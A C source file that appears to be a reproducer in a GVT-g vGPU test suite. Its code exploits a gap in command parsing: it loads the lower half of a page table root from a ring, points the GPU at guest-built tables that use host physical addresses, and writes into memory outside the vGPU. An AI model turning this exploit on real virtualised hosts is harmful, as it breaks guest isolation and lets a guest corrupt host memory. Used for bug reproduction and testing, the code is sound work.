// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * A page table root of the guest's choice. GVT-g replaces the root that
 * MI_LOAD_REGISTER_IMM gives in a ring by its shadow's if the command begins
 * with the upper half, PDP0_UDW; the lower half alone passes as it is
 * (docs/gvt-commands.md). Here the ring loads it with the address of a table
 * that the caller has made; the batch behind it is then found by that table,
 * and its store lands in a page that the vGPU was never given.
 *
 * The upper half stays that of the shadow's root; a user batch reads it. A guest
 * would have to know the host's addresses of four of its pages; here they are
 * read from /proc/self/pagemap.
 */
#include <errno.h>
#include <string.h>
#include <sys/mman.h>

#include "host/blt.h"
#include "host/pagemap.h"
#include "host/repro_int.h"
#include "host/rows.h"
#include "host/work.h"

#define CREATE		VGT_G2V_PPGTT_L4_PAGE_TABLE_CREATE
#define BLT_PDP0_LDW	(BLT_RING_BASE + 0x270)
#define MI_LRI_1	(0x22u << 23 | 1)
#define MI_STORE_DWORD	(0x20u << 23 | 2)
#define MI_SRM		(0x24u << 23 | 2)
#define SZ_4K		4096u
#define MARK		0x600du

/* Four levels to a batch and, behind it in the address space, a page. */
enum { L4, L3, L2, L1, BATCH, VICTIM, PAGES };

struct tables {
	uint64_t *page[PAGES];
	uint64_t phys[PAGES];
};

static int tables_open(struct tables *t)
{
	uint8_t *m = mmap(NULL, PAGES * SZ_4K, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED,
			  -1, 0);
	int ret;

	if (m == MAP_FAILED)
		return -errno;
	ret = pagemap_frames(m, PAGES, t->phys);
	for (unsigned int i = 0; i < PAGES && !ret; i++) {
		t->page[i] = (uint64_t *)(m + i * SZ_4K);
		t->phys[i] *= SZ_4K;
		if (!t->phys[i])
			ret = -EPERM;
	}
	return ret;
}

static void tables_close(struct tables *t)
{
	munmap(t->page[0], PAGES * SZ_4K);
}

static void store(uint32_t *batch, uint64_t va, uint32_t value)
{
	*batch++ = MI_STORE_DWORD;
	*batch++ = (uint32_t)va;
	*batch++ = va >> 32;
	*batch++ = value;
	blt_end(batch);
}

static unsigned int at(uint64_t va, unsigned int level)
{
	return va >> (12 + 9 * level) & 511;
}

static void tables_fill(struct tables *t)
{
	t->page[L4][at(WORK_BATCH_VA, 3)] = ppgtt_4k(t->phys[L3]);
	t->page[L3][at(WORK_BATCH_VA, 2)] = ppgtt_4k(t->phys[L2]);
	t->page[L2][at(WORK_BATCH_VA, 1)] = ppgtt_4k(t->phys[L1]);
	t->page[L1][at(WORK_BATCH_VA, 0)] = ppgtt_4k(t->phys[BATCH]);
	t->page[L1][at(WORK_SRC_VA, 0)] = ppgtt_4k(t->phys[VICTIM]);
	store((uint32_t *)t->page[BATCH], WORK_SRC_VA, MARK);
}

/* A user batch may read it: the upper half of the shadow's root. */
static int upper_half(struct probe *p, struct work *w, uint64_t root,
		      uint32_t *udw)
{
	uint32_t *batch = (uint32_t *)(p->low + w->batch_gpa);
	const volatile uint32_t *own = work_src(p, w);
	int ret;

	*batch++ = MI_SRM;
	*batch++ = BLT_PDP0_LDW + 4;
	*batch++ = (uint32_t)WORK_SRC_VA;
	*batch++ = WORK_SRC_VA >> 32;
	blt_end(batch);
	ret = work_run(p, w, root);
	*udw = *own;
	return ret;
}

static int attempt(struct probe *p, struct work *w, uint64_t root,
		   struct tables *t)
{
	const uint32_t load[] = { MI_LRI_1, BLT_PDP0_LDW,
				  (uint32_t)t->phys[L4] };
	volatile uint32_t *own = work_src(p, w),
			  *victim = (uint32_t *)t->page[VICTIM];
	uint32_t udw;
	int ret = upper_half(p, w, root, &udw), second;

	if (!ret && udw != t->phys[L4] >> 32)
		ret = -ERANGE;
	if (ret)
		return cell_fail(&p->res->cell, ret, "upper half");
	*own = 0;
	store((uint32_t *)(p->low + w->batch_gpa), WORK_SRC_VA, MARK);
	second = work_run_after(p, w, root, load, sizeof(load) / 4);
	probe_found(p, "usual_batch", *own == MARK);
	probe_found(p, "batch_of_own_tables", *victim == MARK);
	probe_found(p, "refused", second != 0 && second != -ETIME);
	repro_shown(p, *victim == MARK);
	return 0;
}

static int repro_root(struct probe *p)
{
	struct tables t;
	uint64_t root;
	struct work w;
	int ret = repro_work(p, &w, &root);

	if (ret)
		return ret;
	ret = tables_open(&t);
	if (ret)
		return cell_fail(&p->res->cell, ret, "tables");
	tables_fill(&t);
	cell_phase(&p->res->cell, "root");
	ret = probe_notify(p, root, CREATE);
	if (!ret)
		ret = attempt(p, &w, root, &t);
	ret = repro_end(p, ret);
	tables_close(&t);
	return ret;
}

static const struct scenario rows[] = {
	{
		.name = "repro-root", .ranges = 1,
		.desc = "the lower half of a page table root in a ring",
		.why = "is_cmd_update_pdps() knows the upper half only: the GPU takes the guest's table",
		PLAN(.backing = BACKING_THP, .special = repro_root),
	},
};
const struct rowset repro_root_rows = ROWSET(rows);
